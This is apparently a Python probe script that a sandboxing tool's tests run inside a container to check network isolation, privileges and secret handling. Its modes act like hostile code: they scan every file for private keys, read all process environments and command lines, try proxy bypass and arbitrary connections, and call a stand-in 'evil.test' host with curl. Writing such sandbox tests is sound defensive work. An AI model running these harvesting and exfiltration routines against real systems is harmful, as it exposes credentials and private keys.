"""Probes that run INSIDE a sandbox (python3 of the sandbox image, standard library only).

The tests pass this file's source to ``python3 -c`` with a mode and a JSON argument:

    coatcheck run ... -- python3 -c "$(cat probe.py)" isolation '{"connect": [...], ...}'

Each mode gathers facts the way hostile code would (it reads what it can and dials what it
can) and prints them as one JSON object on a line that starts with ``MARKER``; the tests on the
host parse that line and assert one claim per test function. Nothing here decides pass or fail.
"""

from __future__ import annotations

import base64
import errno
import hashlib
import json
import os
import re
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request

MARKER = "COATCHECK-PROBE "
SKIP_DIRS = ("/proc", "/sys", "/dev")
MAX_FILE = 64 * 1024 * 1024
PEM_KEY = re.compile(
    rb"-----BEGIN ([A-Z0-9 ]*)PRIVATE KEY-----\s*((?:[A-Za-z0-9+/=]+\s*){2,}?)-----END", re.S
)


def wait_for_release(arg: dict) -> bool:  # type: ignore[type-arg]
    """Stay until the host has looked at this container (it then creates ``arg["release"]``
    with ``docker exec``); True once it has, False when it never did within the bound."""
    deadline = time.monotonic() + float(arg.get("release_within", 120))
    while not os.path.exists(arg["release"]):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def fingerprint(body: bytes) -> str:
    """SHA-256 of a PEM body with whitespace removed (the host computes the same)."""
    return hashlib.sha256(re.sub(rb"\s+", b"", body)).hexdigest()


def walk_files():  # type: ignore[no-untyped-def]
    """Every regular file outside /proc, /sys and /dev; symlinks are not followed."""
    for root, dirs, files in os.walk("/", topdown=True):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP_DIRS]
        for name in files:
            path = os.path.join(root, name)
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_size <= MAX_FILE:
                yield path


def read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


def text(path: str) -> str | None:
    data = read(path)
    return None if data is None else data.decode("utf-8", "replace")


def err(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.errno is not None:
        return f"{type(exc).__name__}: {errno.errorcode.get(exc.errno, exc.errno)}"
    return f"{type(exc).__name__}: {exc}"


def tcp_connect(host: str, port: int, timeout: float = 3.0) -> str:
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return "connected"
    except OSError as exc:
        return err(exc)


def udp_send(host: str, port: int) -> str:
    try:
        infos = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)
        family, kind, proto, _, addr = infos[0]
        with socket.socket(family, kind, proto) as s:
            s.sendto(b"coatcheck-udp-canary", addr)
        return "sent"
    except OSError as exc:
        return err(exc)


def resolve(name: str) -> str:
    try:
        return "resolved: " + ",".join(
            sorted({str(i[4][0]) for i in socket.getaddrinfo(name, 443)})
        )
    except OSError as exc:
        return err(exc)


def run(argv: list[str], timeout: float = 20.0) -> dict[str, object]:
    try:
        p = subprocess.run(argv, capture_output=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        return {"rc": "timeout", "stdout": "", "stderr": ""}
    except OSError as exc:
        return {"rc": err(exc), "stdout": "", "stderr": ""}
    return {
        "rc": p.returncode,
        "stdout": p.stdout.decode("utf-8", "replace"),
        "stderr": p.stderr.decode("utf-8", "replace"),
    }


def try_write(path: str) -> str:
    try:
        with open(path, "w") as f:
            f.write("x")
        os.unlink(path)
        return "written"
    except OSError as exc:
        return err(exc)


def status_fields() -> dict[str, str]:
    out = {}
    for line in (text("/proc/self/status") or "").splitlines():
        key, _, value = line.partition(":")
        out[key.strip()] = value.strip()
    return out


def interfaces() -> list[str]:
    lines = (text("/proc/net/dev") or "").splitlines()[2:]
    return sorted(line.split(":", 1)[0].strip() for line in lines if ":" in line)


def routes() -> list[str]:
    return [line.split()[1] for line in (text("/proc/net/route") or "").splitlines()[1:] if line]


def run_dir_listing(wait: float = 20.0) -> dict[str, str]:
    """What the mounted run dir holds, once the proxy has made its socket there (the sandbox
    may start while its proxy is still starting)."""
    deadline = time.monotonic() + wait
    while not os.path.exists("/run/coatcheck/proxy.sock") and time.monotonic() < deadline:
        time.sleep(0.05)
    out = {}
    for name in sorted(os.listdir("/run/coatcheck")):
        mode = os.lstat(os.path.join("/run/coatcheck", name)).st_mode
        out[name] = "socket" if stat.S_ISSOCK(mode) else "dir" if stat.S_ISDIR(mode) else "file"
    return out


def private_keys() -> list[dict[str, str]]:
    """Every PEM private-key block in every readable file (the image's libraries ship test keys,
    so the host compares fingerprints and places rather than expecting none)."""
    found = []
    for path in walk_files():
        data = read(path)
        if not data or b"PRIVATE KEY-----" not in data:
            continue
        for m in PEM_KEY.finditer(data):
            found.append(
                {"path": path, "kind": m.group(1).decode(), "sha256": fingerprint(m.group(2))}
            )
    return found


def files_containing(needle: bytes) -> list[dict[str, str]]:
    hits = []
    for path in walk_files():
        data = read(path)
        if data and needle in data:
            at = data.index(needle)
            hits.append(
                {"path": path, "context": data[max(0, at - 40) : at + 80].decode("latin-1")}
            )
    return hits


def processes() -> dict[str, dict[str, str | None]]:
    out = {}
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        env = read(f"/proc/{pid}/environ")
        cmd = read(f"/proc/{pid}/cmdline")
        out[pid] = {
            "environ": None if env is None else env.decode("utf-8", "replace"),
            "cmdline": None if cmd is None else cmd.decode("utf-8", "replace"),
        }
    return out


def http_get(url: str, headers: dict[str, str]) -> dict[str, object]:
    """urllib honours HTTPS_PROXY and SSL_CERT_FILE from the sandbox's environment."""
    req = urllib.request.Request(url, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=20) as r:  # noqa: S310
            return {"status": r.status, "headers": dict(r.headers), "body": r.read().decode()}
    except urllib.error.HTTPError as exc:
        body = exc.read().decode("utf-8", "replace")
        return {"status": exc.code, "headers": dict(exc.headers), "body": body}
    except (OSError, urllib.error.URLError) as exc:
        return {"status": None, "error": err(exc)}


# -- modes ------------------------------------------------------------------------------------
def isolation(arg: dict) -> dict:  # type: ignore[type-arg]
    return {
        "proxy_port": tcp_connect("127.0.0.1", arg["proxy_port"]),
        "connect": {f"{h}:{p}": tcp_connect(h, p) for h, p in arg["connect"]},
        "udp": {f"{h}:{p}": udp_send(h, p) for h, p in arg["udp"]},
        "resolve": {n: resolve(n) for n in arg["names"]},
        "getent": {n: run(["getent", "hosts", n]) for n in arg["names"]},
        "curl_noproxy": {
            url: run(["curl", "-sS", "--noproxy", "*", "--max-time", "5", url])
            for url in arg["noproxy_urls"]
        },
        "interfaces": interfaces(),
        "routes": routes(),
        "docker_sockets": [
            p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)
        ],
        "run_dir": run_dir_listing(),
        "ca_mount": text("/etc/coatcheck/ca.pem"),
        "system_bundle": text("/etc/ssl/certs/ca-certificates.crt"),
        "private_keys": private_keys(),
    }


def privileges(arg: dict) -> dict:  # type: ignore[type-arg]
    st = status_fields()
    result = {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "touch_etc": run(["touch", "/etc/x"]),
        "write": {p: try_write(p) for p in arg["write"]},
        "cap_eff": st.get("CapEff"),
        "cap_prm": st.get("CapPrm"),
        "cap_bnd": st.get("CapBnd"),
        "no_new_privs": st.get("NoNewPrivs"),
        "root_mount": next(
            (
                line
                for line in (text("/proc/self/mountinfo") or "").splitlines()
                if line.split()[4] == "/"
            ),
            None,
        ),
    }
    result["released"] = wait_for_release(arg)  # the host inspects the container meanwhile
    return result


def secrets(arg: dict) -> dict:  # type: ignore[type-arg]
    name, url, prefix = arg["name"], arg["url"], arg["prefix"]
    placeholder = os.environ.get(name, "")
    auth = f"Bearer {placeholder}"
    result = {
        "placeholder": placeholder,
        "env": dict(os.environ),
        "processes": processes(),
        "curl_echo": run(
            ["curl", "-sS", "-H", f"Authorization: {auth}", url + "/echo?m=" + arg["mark"]]
        ),
        "curl_echo_header": run(
            [
                "curl",
                "-sS",
                "-i",
                "-H",
                f"Authorization: {auth}",
                url + "/echo-header?h=" + arg["mark"],
            ]
        ),
        "urllib_echo": http_get(url + "/echo?u=" + arg["mark"], {"Authorization": auth}),
        "basic_echo": http_get(
            url + "/echo?b=" + arg["mark"],
            {"Authorization": "Basic " + base64.b64encode(f"user:{placeholder}".encode()).decode()},
        ),
        "files_with_prefix": files_containing(prefix.encode()),
    }
    result["released"] = wait_for_release(arg)
    return result


def tools(arg: dict) -> dict:  # type: ignore[type-arg]
    name, port, mark = arg["name"], arg["port"], arg["mark"]
    auth = {"Authorization": f"Bearer {os.environ.get(name, '')}"}
    return {
        "placeholder": os.environ.get(name),
        "curl": run(
            [
                "curl",
                "-sS",
                "-H",
                f"Authorization: {auth['Authorization']}",
                f"https://api.coatcheck.test:{port}/echo?curl={mark}",
            ]
        ),
        "urllib": http_get(f"https://api.coatcheck.test:{port}/echo?urllib={mark}", auth),
        "allowed_other": http_get(f"https://other.coatcheck.test:{port}/echo?allow={mark}", auth),
        "refused": run(["curl", "-sS", "-i", f"https://evil.test:{port}/echo?refused={mark}"]),
        "git": run(["git", "ls-remote", f"https://api.coatcheck.test:{port}/{mark}/repo.git"]),
    }


MODES = {"isolation": isolation, "privileges": privileges, "secrets": secrets, "tools": tools}

if __name__ == "__main__":
    mode, arg = sys.argv[1], json.loads(sys.argv[2])
    print(MARKER + json.dumps(MODES[mode](arg)), flush=True)
